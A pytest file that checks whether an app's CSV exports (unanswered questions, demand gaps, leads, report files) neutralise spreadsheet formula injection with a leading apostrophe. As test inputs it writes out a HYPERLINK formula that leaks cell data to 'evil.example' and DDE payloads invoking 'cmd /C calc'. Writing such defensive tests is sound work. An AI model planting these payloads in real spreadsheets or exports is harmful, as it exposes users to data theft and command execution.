"""Exports a spreadsheet opens: a cell that starts like a formula (=, +, -, @, tab, carriage return) is
neutralised with a leading apostrophe in every CSV export (unanswered questions, demand gaps, leads, and
the `techbridge report` files), through the real app (TestClient, hashing embedder)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from bot.app import create_app
from bot.matching.gaps import gaps_csv, unanswered_csv
from bot.matching.leads import Lead, leads_csv
from bot.matching.report import write_report
from bot.security.exports import FORMULA_STARTS, csv_text, neutralise
from retrieval.embedders import HashingEmbedder
from tests.support.config import TODAY, make_settings

KEY = "exports-admin-key-0123456789"
ADMIN = {"Authorization": f"Bearer {KEY}"}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click me")'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.fixture
def client(tmp_path: Path) -> Iterator[TestClient]:
    settings = make_settings(tmp_path / "data", embedding={"provider": "hashing"}, admin_api_key=KEY)
    with TestClient(create_app(settings, embedder=HashingEmbedder(), clock=lambda: TODAY)) as c:
        yield c


def test_every_formula_start_is_neutralised_and_nothing_else() -> None:
    for start in FORMULA_STARTS:
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    for harmless in ("a=b", "1+1", "'=already quoted", "量子计算", "", " =1"):
        assert neutralise(harmless) == harmless
    assert neutralise(-3) == -3 and neutralise(0.5) == 0.5 and neutralise(None) == ""  # our own numbers
    text = csv_text(["q", "n"], [["@SUM(A1:A9)", 2], ["\r=cmd|' /C calc'!A0", -1]])
    assert rows(text) == [{"q": "'@SUM(A1:A9)", "n": "2"}, {"q": "'\r=cmd|' /C calc'!A0", "n": "-1"}]


def test_a_formula_question_is_exported_as_text_in_the_unanswered_and_gaps_csv(client: TestClient) -> None:
    answer = client.post("/api/chat", json={"message": FORMULA}).json()
    assert answer["answered"] is False
    unanswered = client.get("/api/admin/unanswered", params={"format": "csv"}, headers=ADMIN)
    assert unanswered.status_code == 200 and unanswered.headers["content-type"].startswith("text/csv")
    (row,) = rows(unanswered.text)
    assert row["question"] == "'" + FORMULA
    gaps = client.get("/api/admin/gaps", params={"format": "csv"}, headers=ADMIN)
    examples = [r["examples"] for r in rows(gaps.text)]
    assert any(FORMULA in e for e in examples)
    assert all(not e.startswith(FORMULA_STARTS) for r in rows(gaps.text) for e in r.values())


def test_leads_export_neutralises_what_the_enterprise_typed(client: TestClient) -> None:
    leads = client.app.state.services.leads  # type: ignore[attr-defined]
    leads.add(
        Lead(
            id="a1b2c3d4e5f6",
            status="pending",
            description="-2+3 cmd|' /C calc'!A0 we need magnesite tailings processing",
            enterprise="@Liaoning Magnesium",
            contact="+86 138 0000 0000",
            title="\tHidden formula",
        )
    )
    export = client.get("/api/admin/leads/export", headers=ADMIN)
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    (row,) = rows(export.text)
    assert row["description"].startswith("'-2+3") and row["enterprise"] == "'@Liaoning Magnesium"
    assert row["contact"] == "'+86 138 0000 0000" and row["title"] == "'\tHidden formula"
    assert row["status"] == "pending" and row["id"] == "a1b2c3d4e5f6"
    assert client.get("/api/admin/leads/export").status_code == 401  # staff only: it holds contacts
    assert leads_csv([]).splitlines()[0].startswith("id,status,description")


def test_report_files_and_functions_neutralise_too(tmp_path: Path) -> None:
    example = {"source": "unanswered", "text": "+1 (555) 0100 =cmd", "lang": "en", "ref": "m1"}
    topic = {
        "topic": "kw:=cmd",
        "kind": "keyword",
        "label_zh": "=cmd",
        "label_en": "-cmd",
        "count": 1,
        "unanswered": 1,
        "rated_down": 0,
        "unmatched_demands": 0,
        "examples": [example],
    }
    report = {"good_match_threshold": 0.5, "totals": {}, "topics": [topic]}
    (row,) = rows(gaps_csv(report))
    assert (row["topic"], row["label_zh"], row["label_en"]) == ("kw:=cmd", "'=cmd", "'-cmd")
    assert row["examples"] == "'+1 (555) 0100 =cmd"
    written = write_report(report, tmp_path / "report", top=5)
    (saved,) = rows(Path(written["csv"]).read_text(encoding="utf-8-sig"))
    assert saved == row
    (question,) = rows(unanswered_csv([{"question": "@evil", "lang": "en"}]))
    assert question["question"] == "'@evil"
